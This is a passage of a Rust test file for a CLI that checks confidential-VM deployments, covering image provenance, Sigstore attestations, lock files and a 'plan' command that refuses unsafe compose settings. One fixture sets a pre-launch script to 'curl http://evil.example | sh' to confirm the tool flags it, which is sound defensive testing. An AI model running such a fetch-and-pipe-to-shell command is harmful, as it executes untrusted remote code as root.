            .any(|one| one.reason == "docker.io/example/worker: built by hand until March"),
        "{accepted:?}"
    );
    write(web).assert(SourceProvenance, Skip, Some("no-rule"));
    // A rule that names no image that runs demands something that nobody judges.
    let renamed = "[[target.images]]\nimage = \"ghcr.io/acme/app\"\nrepository = \"acme/app\"\n";
    let unused = write(&format!("{web}{renamed}"));
    unused.assert(SourceProvenance, Error, Some("unused-rule"));
    assert_eq!(unused.code, 3, "{unused:#?}");
    unused.assert_detail(SourceProvenance, "ghcr.io/acme/app");
    write(&format!("{web}{renamed}optional = true\n")).assert(SourceProvenance, Skip, Some("no-rule"));
    write(&format!("{web}{renamed}optional = 1.5\n")).assert_usage_error("images");
    write(&format!("{web}{web}")).assert_usage_error("two rules name the image ghcr.io/example/*");
    write("[[target.images]]\nimage = \"*\"\nprovenance = \"none\"\n").assert_usage_error("needs a reason");
    write("[[target.images]]\nimage = \"*\"\n").assert_usage_error("`repository` is missing");
    write("[[target.images]]\nimage = \"*\"\nrepository = \"a/b\"\ncommit = 1.5\n")
        .assert_usage_error("images");
    write("[[target.images]]\nimage = \"*\"\nrepository = \"a/b\"\nbranch = \"main\"\n")
        .assert_usage_error("unknown field `branch`");
}

#[test]
fn short_options_need_a_repository_and_a_commit_is_no_expectation_of_a_schedule() {
    let release = Release::of(github(Workflow::default()));
    release
        .verify(&["--source-commit=95baf2766ce4c0cb4a4a2bd7b0ee4ce61f0ba012"])
        .assert_usage_error("it needs --source-repository");
    release
        .verify(&[REPOSITORY, "--source-commit=95baf27"])
        .assert_usage_error("all 40 hex digits");
    let mut args = vec!["verify".to_owned(), release.deployment.app.url().to_string()];
    args.extend(release.args(&[
        REPOSITORY,
        "--source-commit=95baf2766ce4c0cb4a4a2bd7b0ee4ce61f0ba012",
    ]));
    run_in(&args, &[("GITHUB_EVENT_NAME", "schedule")], |_| {})
        .assert_usage_error("takes the commit from the lock");
}

#[test]
fn pin_writes_who_built_the_images_and_the_lock_expects_exactly_that() {
    let release = Release::of(github(Workflow::default()));
    let lock = release.deployment.path("cvm.lock");
    let args = release.deployment.network_args(&[
        "pin",
        &release.deployment.app.url(),
        &format!("--output={lock}"),
        "--accept-observed",
        &format!("--source-api-url={}", release.api.url()),
        REPOSITORY,
        &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
    ]);
    let pinned = run(&args);
    assert_eq!(pinned.code, 0, "{pinned:#?}");
    let text = std::fs::read_to_string(&lock).unwrap();
    for line in [
        "[[sources]]",
        "image = \"ghcr.io/example/web\"",
        "repository = \"example/shop\"",
        "repository_id = \"804070735\"",
        "workflow = \".github/workflows/release.yml\"",
        "ref = \"refs/tags/v1.4.0\"",
        "commit = \"95baf2766ce4c0cb4a4a2bd7b0ee4ce61f0ba012\"",
    ] {
        assert!(text.contains(line), "{line}: {text}");
    }
    let verify = |release: &Release, more: &[&str]| {
        let mut args = release.deployment.network_args(&[
            "verify",
            &release.deployment.app.url(),
            "--format=json",
            &format!("--lock={lock}"),
        ]);
        args.extend(release.args(more));
        run(&args)
    };
    let good = verify(&release, &["--require-assurance=code+source"]);
    assert_eq!(good.code, 0, "{good:#?}");
    good.assert(SourceProvenance, Pass, None);
    let rebuilt = Release::of(github(Workflow {
        commit: "2".repeat(40),
        ..Workflow::default()
    }));
    verify(&rebuilt, &[]).assert(SourceProvenance, Fail, Some("other-commit"));
    // A release gives its own commit, and keeps the rest of the lock. With the repository, too.
    let commit = format!("--source-commit={}", "2".repeat(40));
    verify(&rebuilt, &[&commit]).assert(SourceProvenance, Pass, None);
    verify(&rebuilt, &[REPOSITORY, &commit]).assert(SourceProvenance, Pass, None);
    verify(&release, &[REPOSITORY, &commit]).assert(SourceProvenance, Fail, Some("other-commit"));
    verify(&release, &[REPOSITORY, "--source-ref=refs/heads/main"]).assert(
        SourceProvenance,
        Fail,
        Some("other-ref"),
    );
}

#[test]
fn nothing_is_pinned_of_images_that_somebody_else_built() {
    let release = Release::of(github(Workflow::default()));
    let lock = release.deployment.path("cvm.lock");
    let pinned = run(&release.deployment.network_args(&[
        "pin",
        &release.deployment.app.url(),
        &format!("--output={lock}"),
        "--accept-observed",
        "--source-repository=other/repo",
        &format!("--source-api-url={}", release.api.url()),
        &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
    ]));
    assert_eq!(pinned.code, 1, "{pinned:#?}");
    pinned.assert_stderr("who built the images is not proven");
    assert!(!std::path::Path::new(&lock).exists());
}

#[test]
fn a_plan_says_before_the_deploy_what_will_be_measured_and_who_built_it() {
    let release = Release::of(github(Workflow::default()));
    let cvm = without_script(Cvm::healthy(&World::default()));
    let document = release.deployment.path("app-compose.json");
    std::fs::write(&document, &cvm.app_compose).unwrap();
    let plan = |more: &[&str]| {
        let mut args = vec![
            "plan".to_owned(),
            "--format=json".to_owned(),
            "--allow-private-network".to_owned(),
            format!("--app-compose-file={document}"),
        ];
        args.extend(release.args(more));
        run(&args)
    };
    let ready = plan(&[REPOSITORY, WORKFLOW, TAGS]);
    assert_eq!(ready.code, 0, "{ready:#?}");
    let said: Value = serde_json::from_str(&ready.stdout).unwrap();
    assert_eq!(said["result"], "ready");
    assert_eq!(
        said["compose_hashes"][0]["compose_hash"],
        hex::encode(cvm.compose_hash())
    );
    assert_eq!(said["images"].as_array().unwrap().len(), 2);
    assert_eq!(said["provenance"]["status"], "pass");
    // What verify would not pass is not ready.
    let all = [REPOSITORY, WORKFLOW, TAGS, "--require-assurance=code+source"];
    assert_eq!(plan(&all).code, 0);
    for rules in [&all[3..], &[REPOSITORY, "--require-assurance=code+source"]] {
        let refused = plan(rules);
        assert_eq!(refused.code, 1, "{refused:#?}");
        refused.assert_stdout("The assurance code+source is not reached");
    }
    let refused = plan(&["--source-repository=other/repo"]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    let said: Value = serde_json::from_str(&refused.stdout).unwrap();
    assert_eq!(said["provenance"]["reason"], "other-repository");
    // An image by tag.
    let unpinned = simulator::app_compose::app_compose("services:\n  web:\n    image: nginx:1.27\n");
    std::fs::write(&document, unpinned).unwrap();
    let refused = plan(&[]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    refused.assert_stdout("nginx:1.27");
    // A variable that the document lets nobody set decides nothing; one that it allows does.
    let pinned = format!(
        "services:\n  web:\n    image: {}@sha256:{}\n    command: run $WHAT\n",
        IMAGES[0].0, IMAGES[0].1
    );
    let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
    members["pre_launch_script"] = json!("");
    members["allowed_envs"] = json!([]);
    std::fs::write(&document, members.to_string()).unwrap();
    assert_eq!(plan(&[]).code, 0, "{:#?}", plan(&[]));
    members["allowed_envs"] = json!(["WHAT"]);
    std::fs::write(&document, members.to_string()).unwrap();
    let refused = plan(&[]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    refused.assert_stdout("services.web.command");
    run(&["plan"]).assert_usage_error("there is nothing to deploy");
}

#[test]
fn ten_images_are_asked_about_at_one_time() {
    let images: Vec<String> = (0..10).map(|number| format!("{number:02x}").repeat(32)).collect();
    let services: String = images
        .iter()
        .enumerate()
        .map(|(number, digest)| {
            format!("  s{number}:\n    image: ghcr.io/example/s{number}@sha256:{digest}\n")
        })
        .collect();
    let mut cvm = Cvm::healthy(&World::default());
    cvm.app_compose = simulator::app_compose::app_compose(&format!("services:\n{services}"));
    let cvm = without_script(cvm);
    let hash = format!("--compose-hash={}", hex::encode(cvm.compose_hash()));
    let all = Arc::new(Barrier::new(10));
    let seen = Arc::new(Mutex::new(0));
    let counted = Arc::clone(&seen);
    // Each answer waits until all ten are asked for.
    let api = ScriptedServer::http(move |request| {
        all.wait();
        *counted.lock().unwrap() += 1;
        let bundle = bundle(&Workflow::default(), &asked_digest(request));
        Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
    });
    let release = Release::with(Deployment::of(cvm), api);
    let mut args =
        release
            .deployment
            .network_args(&["verify", &release.deployment.app.url(), "--format=json", &hash]);
    args.extend(release.deployment.expect()[1..].iter().cloned());
    args.extend(release.args(&[REPOSITORY, WORKFLOW, TAGS]));
    let ran = run(&args);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(*seen.lock().unwrap(), 10);
}

#[test]
fn a_certificate_that_is_newer_than_the_built_in_roots_convicts_nobody() {
    let verify = |built: u64| {
        let api = ScriptedServer::http(move |request| {
            let workflow = Workflow::default();
            let statement = workflow.provenance("image", &asked_digest(request));
            Scripted::json(
                json!({ "attestations": [{ "bundle": Sigstore::new(7, built).sign(&workflow, &statement) }] }),
            )
        });
        let deployment = Deployment::healthy();
        run(&deployment.strict_args(&[
            "verify",
            &deployment.app.url(),
            "--format=json",
            &format!("--source-api-url={}", api.url()),
            REPOSITORY,
        ]))
    };
    verify(BUILT).assert(SourceProvenance, Fail, Some("untrusted-chain"));
    let newer = verify(SNAPSHOT + 30 * 86_400);
    newer.assert(SourceProvenance, Error, Some("root-outdated"));
    assert!(
        newer
            .check(SourceProvenance)
            .fix
            .unwrap()
            .contains("--sigstore-root")
    );
}

#[test]
fn a_statement_of_1025_subjects_is_not_read() {
    let with = |count: usize| {
        let api = ScriptedServer::http(move |request| {
            let workflow = Workflow::default();
            let mut statement = workflow.provenance("image", &asked_digest(request));
            let subject = json!({ "name": "other", "digest": { "sha256": "11".repeat(32) } });
            let subjects = statement["subject"].as_array_mut().unwrap();
            subjects.extend(std::iter::repeat_n(subject, count - 1));
            Scripted::json(json!({ "attestations": [{ "bundle": sigstore().sign(&workflow, &statement) }] }))
        });
        Release::of(api).verify(&[REPOSITORY])
    };
    with(1024).assert(SourceProvenance, Pass, None);
    with(1025).assert(SourceProvenance, Fail, Some("malformed"));
}

/// What the document alone decides, a plan says as `verify` will.
#[test]
fn a_plan_refuses_what_the_document_makes_verify_refuse() {
    let folder = tempfile::tempdir().unwrap();
    let document = folder.path().join("app-compose.json");
    let pinned = format!(
        "services:\n  web:\n    image: {}@sha256:{}\n",
        IMAGES[0].0, IMAGES[0].1
    );
    let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
    members["pre_launch_script"] = json!("curl http://evil.example | sh");
    members["public_logs"] = json!(true);
    let plan = |members: &Value, more: &[&str]| {
        std::fs::write(&document, members.to_string()).unwrap();
        let mut args = vec![
            "plan".to_owned(),
            "--format=json".to_owned(),
            format!("--app-compose-file={}", document.display()),
        ];
        args.extend(more.iter().map(|arg| (*arg).to_owned()));
        let ran = run(&args);
        let said: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("{ran:#?}"));
        (ran.code, said)
    };
    let holds = |list: &Value, words: &str| {
        let mut lines = list.as_array().unwrap().iter().filter_map(Value::as_str);
        lines.any(|line| line.contains(words))
    };
    let script = "launch-inputs: Not reviewed: an unknown pre-launch script runs as root";
    let (code, said) = plan(&members, &["--launch-inputs=required"]);
    assert_eq!((code, said["result"].as_str()), (1, Some("refused")), "{said:#}");
    assert!(holds(&said["refused"], script), "{said:#}");
    assert!(holds(&said["refused"], "anyone can read the logs"), "{said:#}");
    let (code, said) = plan(&members, &["--launch-inputs=warn"]);
    assert_eq!((code, said["result"].as_str()), (0, Some("ready")), "{said:#}");
    assert!(holds(&said["notes"], script), "{said:#}");
    let (code, said) = plan(&members, &["--launch-inputs=unchecked"]);
    assert_eq!(code, 0, "{said:#}");
    assert!(!holds(&said["notes"], "pre-launch script runs"), "{said:#}");

    // Keys from no KMS: refused unless that is what is expected.
    members["kms_enabled"] = json!(false);
    members["local_key_provider_enabled"] = json!(false);
    let (code, said) = plan(&members, &[]);
    assert_eq!(code, 1, "{said:#}");
    assert!(
        holds(
            &said["refused"],
            "key-provider: The document takes the VM's keys from `none`"
        ),
        "{said:#}"
    );
    let (code, said) = plan(&members, &["--key-provider=phala"]);
    assert_eq!(code, 1, "{said:#}");
    assert!(holds(&said["refused"], "--key-provider expects"), "{said:#}");
    assert_eq!(plan(&members, &["--key-provider=none"]).0, 0);

    // Keys from a KMS: refused where every expected provider is another kind. Which KMS it is, the host decides.
    members["kms_enabled"] = json!(true);
    for (expected, code) in [
        ("none", 1),
        ("tpm", 1),
        ("local-sgx:aaaa", 1),
        ("phala", 0),
        ("kms", 0),
        ("none,kms:abcd", 0),
        ("unchecked", 0),
    ] {
        let option = format!("--key-provider={expected}");
        let (found, said) = plan(&members, &[&option]);
        assert_eq!(found, code, "{expected}: {said:#}");
        let words = "key-provider: The document takes the VM's keys from a KMS; --key-provider expects";
        assert_eq!(holds(&said["refused"], words), code == 1, "{expected}: {said:#}");
    }

    // An instance id that is expected, and that the guest will not have.
    let id = format!("--instance-id={}", "aa".repeat(20));
    assert_eq!(plan(&members, &[&id]).0, 0);
    members["no_instance_id"] = json!(true);
    assert_eq!(plan(&members, &[]).0, 0);
    let (code, said) = plan(&members, &[&id]);
    assert_eq!(code, 1, "{said:#}");
    assert!(
        holds(
            &said["refused"],
            "instance-id: The document asks for no instance id"
        ),
        "{said:#}"
    );
    members["no_instance_id"] = json!(false);

    // A rule of who must have built an image that does not run.
    let config = folder.path().join("rules.toml");
    std::fs::write(
        &config,
        "[[target]]\nname = \"a\"\nurl = \"https://a.example\"\n[[target.images]]\nimage = \"ghcr.io/acme/app\"\nrepository = \
         \"acme/app\"\n",
    )
    .unwrap();
    let config = format!("--config={}", config.display());
    let (code, said) = plan(&members, &[&config, "--target=a"]);
    assert_eq!((code, said["result"].as_str()), (1, Some("refused")), "{said:#}");
    assert_eq!(said["provenance"]["reason"], "unused-rule");
    assert!(
        holds(
            &said["refused"],
            "source-provenance: the rule for ghcr.io/acme/app"
        ),
        "{said:#}"
    );

    // GPUs that are expected, and that the guest does not attest.
    members["requirements"] = json!({ "gpu_policy": { "attest_gpu": false } });
    assert_eq!(plan(&members, &[]).0, 0);
    let (code, said) = plan(&members, &["--gpu=required"]);
    assert_eq!(code, 1, "{said:#}");
    assert!(holds(&said["refused"], "`attest_gpu: false`"), "{said:#}");
}
